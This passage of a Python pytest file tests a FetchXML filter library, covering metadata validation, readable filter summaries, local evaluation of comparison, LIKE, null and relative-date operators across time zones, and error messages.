    ]
    with pytest.raises(FilterError) as info:
        validate_filter(parse_filter(xml), METADATA, raise_on_problems=True)
    message = str(info.value)
    assert message.startswith("The filter for 'contact' has 3 problems:\n- contact > condition 'fulname'")
    assert info.value.entity == "contact"
    with pytest.raises(FilterError, match="has 1 problem:\n- contact: unknown entity"):
        validate_filter(FetchFilter("contact"), {}, raise_on_problems=True)


def test_validation_of_links_to_unknown_entities_does_not_cascade() -> None:
    xml = (
        '<fetch><entity name="contact"><link-entity name="nope" from="x" to="contactid" alias="n"/>'
        '<filter><condition attribute="y" operator="null" entityname="n"/></filter></entity></fetch>'
    )
    assert _problems(xml) == [
        (
            "contact > link-entity 'nope' (alias 'n'): unknown entity 'nope': the server "
            "organization has no such table."
        )
    ]


def test_validation_accepts_plain_mappings_protocols_and_hand_built_filters() -> None:
    plain = {"account": {"name": "string", "accountid": AttributeType.UNIQUEIDENTIFIER}}
    assert (
        validate_filter(
            parse_filter(_c("account", '<condition attribute="name" operator="like" value="A%"/>')), plain
        )
        == []
    )
    assert validate_filter(NO_FILTER, {}) == []

    class Server:
        def attributes_of(self, entity: str) -> dict[str, AttributeInfo] | None:
            return {"name": AttributeInfo(AttributeType.STRING)} if entity == "lead" else None

    assert (
        validate_filter(FetchFilter("lead", FilterGroup(items=(Condition("name", "null"),))), Server()) == []
    )
    orphan = FetchFilter("account", FilterGroup(items=(Condition("name", "null", entity_alias="ghost"),)))
    assert [str(p) for p in validate_filter(orphan, plain)] == [
        "account > condition 'name': entityname='ghost' matches no link-entity alias."
    ]


def test_join_through_a_lookup_on_the_linked_side() -> None:
    # account.primarycontactid -> contact: the lookup is on the linked table's side.
    xml = (
        '<fetch><entity name="contact"><link-entity name="account" from="primarycontactid" to="contactid"/>'
        "</entity></fetch>"
    )
    assert _problems(xml) == []


# --- summaries ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("xml", "summary"),
    [
        ("", "All records"),
        (ENTITY_ONLY, "All records"),
        (
            _c(
                "contact",
                '<condition attribute="ownerid" operator="eq-userid"/>'
                '<condition attribute="statecode" operator="eq" value="0"/>',
            ),
            "Owner is current user and Status = Active",
        ),
        (MODIFIED_LAST_30_DAYS, "Modified On is in the last 30 days"),
        (LINK_ACCOUNT_BY_OWNER, "with account where Owner is current user"),
        (
            NESTED_OR,
            (
                "Status = Active and (Owner is current user or (address1_city is like 'Pra%' and "
                "Status Reason is one of 1, 2) or Created On is between 2024-01-01 and 2024-12-31) and "
                "acc.acc is empty and optionally with account where name has a value and with systemuser"
            ),
        ),
        (VALUE_OF, "actualvalue > estimatedvalue"),
        (WITH_COUNT, "scheduledend is in the next 14 days (first 500 records)"),
        (_c("a", '<condition attribute="statecode" operator="ne" value="1"/>'), "Status != Inactive"),
        (
            _c(
                "a",
                '<filter type="or"><condition attribute="a" operator="null"/><condition attribute="b" operator="null"/>'
                '</filter><filter type="and"><condition attribute="c" operator="null"/><condition attribute="d" '
                'operator="null"/></filter>',
            ),
            "(a is empty or b is empty) and c is empty and d is empty",
        ),
        (
            '<fetch><entity name="a"><link-entity name="b" from="x" to="y" link-type="not-any"/></entity></fetch>',
            "without b",
        ),
        (
            (
                '<fetch><entity name="a"><filter type="or"><filter/><condition attribute="x" operator="null"/></filter>'
                "</entity></fetch>"
            ),
            "x is empty",
        ),
    ],
)
def test_summaries(xml: str, summary: str) -> None:
    assert summarize_filter(parse_filter(xml)) == summary


def test_summary_uses_caller_labels() -> None:
    f = parse_filter(
        _c(
            "account",
            '<condition attribute="industrycode" operator="in"><value>1</value><value>7</value></condition>',
        )
    )
    text = summarize_filter(
        f,
        display_names={"industrycode": "Industry"},
        value_labels={("industrycode", "1"): "Accounting", ("industrycode", "7"): "Consulting"},
    )
    assert text == "Industry is one of Accounting, Consulting"


# --- local evaluation -----------------------------------------------------------------------------------

NOW = datetime(2024, 5, 15, 10, 30, tzinfo=UTC)
CTX = EvaluationContext(USER, BU, NOW)


def _eval(
    op: str, values: tuple[str, ...], actual: Any, *, ctx: EvaluationContext = CTX, attribute: str = "x"
) -> bool:
    f = FetchFilter("a", FilterGroup(items=(Condition("x", op, values),)))
    return evaluate(f, {attribute: actual}, ctx)


EVAL_CASES: list[tuple[str, tuple[str, ...], Any, bool]] = [
    # eq / ne on every value type; text is case- and accent-insensitive
    ("eq", ("Contoso",), "contoso", True),
    ("eq", ("Crème Brûlée",), "CREME BRULEE", True),
    ("eq", ("Contoso",), "Contoso Ltd", False),
    ("eq", ("5",), 5, True),
    ("eq", ("5.0",), 5, True),
    ("eq", ("5",), 5.5, False),
    ("eq", ("0.1",), Decimal("0.10"), True),
    ("eq", ("1",), True, True),
    ("eq", ("true",), True, True),
    ("eq", ("0",), True, False),
    ("eq", ("false",), False, True),
    ("eq", (USER.upper(),), USER, True),
    ("eq", ("{" + USER + "}",), USER, True),
    ("eq", (USER,), UUID(USER), True),
    ("eq", ("2024-05-01T08:00:00Z",), datetime(2024, 5, 1, 10, 0, tzinfo=timezone(timedelta(hours=2))), True),
    ("eq", ("2024-05-01",), date(2024, 5, 1), True),
    ("eq", ("2024-05-01T08:00:00Z",), "2024-05-01T08:00:00Z", True),
    ("eq", ("2024-05-01T08:00:00+02:00",), "2024-05-01T06:00:00Z", True),
    ("eq", ("x",), None, False),
    ("ne", ("x",), None, False),  # SQL semantics: empty satisfies no comparison
    ("ne", ("x",), "", False),
    ("ne", ("x",), "y", True),
    ("ne", ("Y",), "y", False),
    ("neq", ("1",), 2, True),
    # ordering
    ("gt", ("10",), 11, True),
    ("gt", ("10",), 10, False),
    ("ge", ("10",), 10, True),
    ("lt", ("10",), 9.99, True),
    ("le", ("10",), 10.01, False),
    ("gt", ("b",), "C", True),
    ("lt", ("2024-05-01",), datetime(2024, 4, 30, 23, 59, tzinfo=UTC), True),
    ("gt", ("2024-05-01T00:00:00Z",), "2024-05-01T00:00:01Z", True),
    ("gt", ("1",), None, False),
    # like: % any run, _ one character, [set], [^set]; case-insensitive; whole value
    ("like", ("Con%",), "contoso", True),
    ("like", ("%OSO",), "Contoso", True),
    ("like", ("%tos%",), "Contoso", True),
    ("like", ("C_ntoso",), "Cantoso", True),
    ("like", ("C_ntoso",), "Coontoso", False),
    ("like", ("Contoso",), "Contoso Ltd", False),
    ("like", ("[ck]ontoso",), "Kontoso", True),
    ("like", ("[^c]ontoso",), "Contoso", False),
    ("like", ("[^c]ontoso",), "Pontoso", True),
    ("like", ("[a-c]%",), "Brno", True),
    ("like", ("[a-c]%",), "Praha", False),
    ("like", ("a.c",), "abc", False),
    ("like", ("50[%]",), "50%", True),
    ("like", ("%",), "multi\nline", True),
    ("like", ("%",), None, False),
    ("not-like", ("Con%",), "Fabrikam", True),
    ("not-like", ("Con%",), "contoso", False),
    ("not-like", ("Con%",), None, False),
    ("begins-with", ("CON",), "Contoso", True),
    ("begins-with", ("Con%",), "Contoso", False),  # begins-with is literal
    ("not-begin-with", ("Con",), "Fabrikam", True),
    ("not-begin-with", ("Con",), "Contoso", False),
    ("ends-with", ("SO",), "Contoso", True),
    ("ends-with", ("so",), "Fabrikam", False),
    ("not-end-with", ("so",), "Fabrikam", True),
    ("not-end-with", ("so",), None, False),
    # null / not-null
    ("null", (), None, True),
    ("null", (), "", True),
    ("null", (), [], True),
    ("null", (), 0, False),
    ("null", (), False, False),
    ("not-null", (), 0, True),
    ("not-null", (), None, False),
    # in / not-in
    ("in", ("1", "2", "3"), 2, True),
    ("in", ("1", "2", "3"), 4, False),
    ("in", ("Praha", "Brno"), "BRNO", True),
    ("in", ("1",), None, False),
    ("not-in", ("1", "2"), 3, True),
    ("not-in", ("1", "2"), 2, False),
    ("not-in", ("1", "2"), None, False),
    # between is inclusive; date-only bounds cover whole days
    ("between", ("1", "10"), 1, True),
    ("between", ("1", "10"), 10, True),
    ("between", ("1", "10"), 11, False),
    ("between", ("2024-05-01", "2024-05-31"), datetime(2024, 5, 31, 23, 59, tzinfo=UTC), True),
    ("between", ("2024-05-01", "2024-05-31"), "2024-06-01T00:00:00Z", False),
    ("between", ("2024-05-01", "2024-05-31"), date(2024, 5, 1), True),
    (
        "between",
        ("2024-05-01T00:00:00Z", "2024-05-01T12:00:00Z"),
        datetime(2024, 5, 1, 13, tzinfo=UTC),
        False,
    ),
    ("between", ("a", "c"), "B", True),
    ("not-between", ("1", "10"), 11, True),
    ("not-between", ("1", "10"), 5, False),
    ("not-between", ("1", "10"), None, False),
    # multi-select choices
    ("contain-values", ("1", "5"), [3, 5], True),
    ("contain-values", ("1",), "3,5", False),
    ("contain-values", ("5",), " 3, 5 ", True),
    ("not-contain-values", ("1",), (3, 5), True),
    ("not-contain-values", ("5",), [5], False),
    ("not-contain-values", ("5",), [], False),
    # user and business unit
    ("eq-userid", (), USER, True),
    ("eq-userid", (), USER.upper(), True),
    ("eq-userid", (), "{" + USER + "}", True),
    ("eq-userid", (), UUID(USER), True),
    ("eq-userid", (), OTHER_USER, False),
    ("eq-userid", (), None, False),
    ("ne-userid", (), OTHER_USER, True),
    ("ne-userid", (), USER, False),
    ("ne-userid", (), None, False),
    ("eq-businessid", (), BU, True),
    ("eq-businessid", (), USER, False),
    ("ne-businessid", (), USER, True),
    # relative dates; NOW is 2024-05-15 10:30 UTC
    ("today", (), datetime(2024, 5, 15, 0, 0, tzinfo=UTC), True),
    ("today", (), datetime(2024, 5, 15, 23, 59, 59, tzinfo=UTC), True),
    ("today", (), datetime(2024, 5, 14, 23, 59, 59, tzinfo=UTC), False),
    ("today", (), "2024-05-15", True),
    ("today", (), date(2024, 5, 15), True),
    ("today", (), None, False),
    ("yesterday", (), "2024-05-14T12:00:00Z", True),
    ("yesterday", (), "2024-05-15T00:00:00Z", False),
    ("tomorrow", (), datetime(2024, 5, 16, 9, tzinfo=UTC), True),
    ("last-x-days", ("30",), datetime(2024, 4, 15, 0, 0, tzinfo=UTC), True),
    ("last-x-days", ("30",), datetime(2024, 4, 14, 23, 59, tzinfo=UTC), False),
    ("last-x-days", ("30",), NOW, True),
    ("last-x-days", ("30",), NOW + timedelta(seconds=1), False),
    ("last-x-days", ("1",), datetime(2024, 5, 14, 0, 0, tzinfo=UTC), True),
    ("last-x-days", ("30",), date(2024, 5, 1), True),
    ("next-x-days", ("7",), datetime(2024, 5, 22, 23, 59, tzinfo=UTC), True),
    ("next-x-days", ("7",), datetime(2024, 5, 23, 0, 0, tzinfo=UTC), False),
    ("next-x-days", ("7",), NOW - timedelta(minutes=1), False),
    ("last-seven-days", (), datetime(2024, 5, 8, 0, 0, tzinfo=UTC), True),
    ("last-seven-days", (), datetime(2024, 5, 7, 23, 0, tzinfo=UTC), False),
    ("next-seven-days", (), datetime(2024, 5, 22, 12, 0, tzinfo=UTC), True),
    ("last-x-hours", ("2",), NOW - timedelta(hours=2), True),
    ("last-x-hours", ("2",), NOW - timedelta(hours=2, seconds=1), False),
    ("next-x-hours", ("2",), NOW + timedelta(hours=2), True),
    ("next-x-hours", ("2",), NOW + timedelta(hours=2, seconds=1), False),
    ("last-x-weeks", ("2",), datetime(2024, 5, 1, 0, 0, tzinfo=UTC), True),
    ("last-x-weeks", ("2",), datetime(2024, 4, 30, 23, 0, tzinfo=UTC), False),
    ("next-x-weeks", ("1",), datetime(2024, 5, 22, 23, 0, tzinfo=UTC), True),
    ("olderthan-x-minutes", ("30",), NOW - timedelta(minutes=31), True),
    ("olderthan-x-minutes", ("30",), NOW - timedelta(minutes=29), False),
    ("olderthan-x-hours", ("1",), NOW - timedelta(hours=2), True),
    ("olderthan-x-days", ("10",), NOW - timedelta(days=11), True),
    ("olderthan-x-days", ("10",), NOW - timedelta(days=9), False),
    ("olderthan-x-weeks", ("1",), NOW - timedelta(days=8), True),
    ("this-month", (), date(2024, 5, 1), True),
    ("this-month", (), date(2023, 5, 1), False),
    ("last-month", (), date(2024, 4, 30), True),
    ("next-month", (), "2024-06-01T00:00:00Z", True),
    ("this-year", (), date(2024, 12, 31), True),
    ("last-year", (), date(2023, 1, 1), True),
    ("next-year", (), date(2024, 1, 1), False),
    ("on", ("2024-05-15",), datetime(2024, 5, 15, 23, 59, tzinfo=UTC), True),
    ("on", ("2024-05-15",), datetime(2024, 5, 16, 0, 0, tzinfo=UTC), False),
    ("on", ("2024-05-15T18:00:00Z",), "2024-05-15T01:00:00Z", True),
    ("on-or-before", ("2024-05-15",), date(2024, 5, 15), True),
    ("on-or-before", ("2024-05-15",), date(2024, 5, 16), False),
    ("on-or-after", ("2024-05-15",), date(2024, 5, 15), True),
    ("on-or-after", ("2024-05-15",), date(2024, 5, 14), False),
    ("on-or-after", ("2024-05-15",), None, False),
]


@pytest.mark.parametrize(("op", "values", "actual", "expected"), EVAL_CASES)
def test_evaluate_operator_semantics(op: str, values: tuple[str, ...], actual: Any, expected: bool) -> None:
    assert _eval(op, values, actual) is expected


def test_every_local_operator_has_evaluation_cases() -> None:
    assert {case[0] for case in EVAL_CASES} == set(LOCAL_OPERATORS)


def test_day_boundaries_follow_the_context_time_zone() -> None:
    prague = timezone(timedelta(hours=2))
    ctx = EvaluationContext(USER, BU, datetime(2024, 5, 15, 1, 30, tzinfo=prague))  # 14 May 23:30 UTC
    assert _eval("today", (), datetime(2024, 5, 14, 22, 30, tzinfo=UTC), ctx=ctx)  # 15 May 00:30 in Prague
    assert not _eval("today", (), datetime(2024, 5, 14, 21, 59, tzinfo=UTC), ctx=ctx)
    assert _eval("on", ("2024-05-15",), datetime(2024, 5, 14, 22, 0, tzinfo=UTC), ctx=ctx)
    # naive record date-times are UTC; a naive "now" is UTC too
    naive_ctx = EvaluationContext(USER, BU, datetime(2024, 5, 15, 10, 0))
    assert _eval("today", (), datetime(2024, 5, 15, 0, 0), ctx=naive_ctx)
    assert _eval("last-x-hours", ("1",), datetime(2024, 5, 15, 9, 30), ctx=naive_ctx)


def test_month_arithmetic_wraps_years() -> None:
    january = EvaluationContext(USER, BU, datetime(2024, 1, 10, tzinfo=UTC))
    december = EvaluationContext(USER, BU, datetime(2024, 12, 10, tzinfo=UTC))
    assert _eval("last-month", (), date(2023, 12, 31), ctx=january)
    assert not _eval("last-month", (), date(2024, 12, 31), ctx=january)
    assert _eval("next-month", (), date(2025, 1, 1), ctx=december)


def test_lookup_values_are_found_under_their_web_api_names() -> None:
    f = parse_filter(OWNER_CURRENT_USER)
    assert evaluate(f, {"_ownerid_value": USER}, CTX)
    assert not evaluate(f, {"_ownerid_value": OTHER_USER}, CTX)
    assert not evaluate(f, {}, CTX)  # missing column is empty
    assert evaluate(f, {"ownerid": USER, "_ownerid_value": OTHER_USER}, CTX)  # the plain name wins


@pytest.mark.parametrize(
    ("group_type", "items", "record", "expected"),
    [
        ("and", ["eq:a:1", "eq:b:2"], {"a": 1, "b": 2}, True),
        ("and", ["eq:a:1", "eq:b:2"], {"a": 1, "b": 3}, False),
        ("or", ["eq:a:1", "eq:b:2"], {"a": 0, "b": 2}, True),
        ("or", ["eq:a:1", "eq:b:2"], {"a": 0, "b": 0}, False),
        ("or", [], {}, True),
        ("and", [], {}, True),
    ],
)
def test_groups_combine(group_type: str, items: list[str], record: dict[str, Any], expected: bool) -> None:
    conditions = tuple(Condition(i.split(":")[1], "eq", (i.split(":")[2],)) for i in items)
    f = FetchFilter("x", FilterGroup(FilterType(group_type), conditions))
    assert evaluate(f, record, CTX) is expected


def test_nested_groups_evaluate_like_the_realistic_filter() -> None:
    xml = _c(
        "contact",
        '<condition attribute="statecode" operator="eq" value="0"/>'
        '<filter type="or"><condition attribute="ownerid" operator="eq-userid"/>'
        '<condition attribute="modifiedon" operator="last-x-days" value="30"/></filter>',
    )
    f = parse_filter(xml)
    assert can_evaluate_locally(f)
    recent = {"statecode": 0, "ownerid": OTHER_USER, "modifiedon": "2024-05-01T00:00:00Z"}
    assert evaluate(f, recent, CTX)
    assert evaluate(f, {**recent, "ownerid": USER, "modifiedon": "2020-01-01T00:00:00Z"}, CTX)
    assert not evaluate(f, {**recent, "modifiedon": "2020-01-01T00:00:00Z"}, CTX)
    assert not evaluate(f, {**recent, "statecode": 1}, CTX)


def test_value_of_compares_two_columns() -> None:
    f = parse_filter(VALUE_OF)
    assert evaluate(f, {"actualvalue": 200, "estimatedvalue": 100}, CTX)
    assert not evaluate(f, {"actualvalue": 100, "estimatedvalue": 100}, CTX)
    assert not evaluate(f, {"actualvalue": 100, "estimatedvalue": None}, CTX)
    dates = FetchFilter("a", FilterGroup(items=(Condition("modifiedon", "ge", value_of="createdon"),)))
    assert evaluate(
        dates,
        {"modifiedon": datetime(2024, 5, 2, tzinfo=UTC), "createdon": datetime(2024, 5, 1, tzinfo=UTC)},
        CTX,
    )
    assert evaluate(
        FetchFilter("a", FilterGroup(items=(Condition("a", "eq", value_of="b"),))), {"a": "X", "b": "x"}, CTX
    )


@pytest.mark.parametrize(
    ("xml", "reason"),
    [
        (LINK_ACCOUNT_BY_OWNER, "the link-entity 'account' needs rows of another table"),
        (WITH_COUNT, "the row limit count=500 depends on the server's ordering"),
        (
            _c("a", '<condition attribute="ownerid" operator="eq-useroruserteams"/>'),
            "operator 'eq-useroruserteams' needs the server",
        ),
        (
            _c("a", '<condition attribute="createdon" operator="this-week"/>'),
            "operator 'this-week' needs the server",
        ),
        (
            _c("a", '<condition attribute="createdon" operator="last-x-months" value="3"/>'),
            "operator 'last-x-months' needs the server",
        ),
        (
            _c("a", '<condition attribute="createdon" operator="this-fiscal-year"/>'),
            "operator 'this-fiscal-year' needs the server",
        ),
    ],
)
def test_what_cannot_be_evaluated_locally(xml: str, reason: str) -> None:
    f = parse_filter(xml)
    assert not can_evaluate_locally(f)
    assert reason in local_evaluation_blockers(f)[0]
    with pytest.raises(FilterError, match="This filter cannot be checked locally: " + reason[:20]):
        evaluate(f, {}, CTX)


def test_alias_condition_is_not_local_even_without_other_blockers() -> None:
    f = FetchFilter("a", FilterGroup(items=(Condition("name", "null", entity_alias="acc"),)))
    assert local_evaluation_blockers(f) == ["the condition on acc.name reads a linked table"]


def test_operator_table_locality_matches_the_documented_scope() -> None:
    brief = {
        "eq",
        "ne",
        "gt",
        "ge",
        "lt",
        "le",
        "like",
        "not-like",
        "begins-with",
        "ends-with",
        "null",
        "not-null",
        "in",
        "not-in",
        "eq-userid",
        "ne-userid",
        "eq-businessid",
        "today",
        "yesterday",
        "last-x-days",
        "next-x-days",
        "on",
        "on-or-before",
        "on-or-after",
        "between",
    }
    assert brief <= LOCAL_OPERATORS
    assert not {"eq-userteams", "under", "this-week", "in-fiscal-year", "last-x-months"} & LOCAL_OPERATORS


def test_values_a_parser_would_refuse_raise_filter_errors() -> None:
    bad_count = FetchFilter("a", FilterGroup(items=(Condition("x", "last-x-days", ("abc",)),)))
    with pytest.raises(
        FilterError, match=r"The condition on 'x' \(last-x-days abc\) cannot be checked: invalid"
    ):
        evaluate(bad_count, {"x": NOW}, CTX)
    bad_date = FetchFilter("a", FilterGroup(items=(Condition("x", "gt", ("2024-13-45",)),)))
    with pytest.raises(FilterError, match=r"The condition on 'x' \(gt 2024-13-45\) cannot be checked: month"):
        evaluate(bad_date, {"x": "2024-05-01T00:00:00Z"}, CTX)


@pytest.mark.parametrize(
    ("op", "values", "actual", "fragment"),
    [
        ("gt", ("abc",), 5, "compares with 'abc', which does not fit the record's value 5"),
        ("eq", ("maybe",), True, "compares with 'maybe'"),
        ("eq", ("not-a-date",), datetime(2024, 1, 1, tzinfo=UTC), "compares with 'not-a-date'"),
        ("eq", ("x",), UUID(USER), "compares with 'x'"),
        ("eq", ("x",), b"bytes", "has an unsupported type (bytes)"),
        ("today", (), "next tuesday", "The record's value of 'x' ('next tuesday') is not a date"),
        ("today", (), 42, "is not a date"),
        ("contain-values", ("1",), ["golf"], "is not a list of choice values"),
    ],
)
def test_evaluation_errors_are_clear(op: str, values: tuple[str, ...], actual: Any, fragment: str) -> None:
    with pytest.raises(FilterError) as info:
        _eval(op, values, actual)
    assert fragment in str(info.value)


@pytest.mark.parametrize(
    ("pattern", "regex"),
    [
        ("a%b_c", "a.*b.c"),
        ("[abc]", "[abc]"),
        ("[^a-c]", "[^a-c]"),
        ("[", r"\["),
        ("[]x", r"\[\]x"),
        ("x.y*", r"x\.y\*"),
        ("[a\\]", r"[a\\]"),
    ],
)
def test_like_translation(pattern: str, regex: str) -> None:
    assert like_regex(pattern).pattern == regex
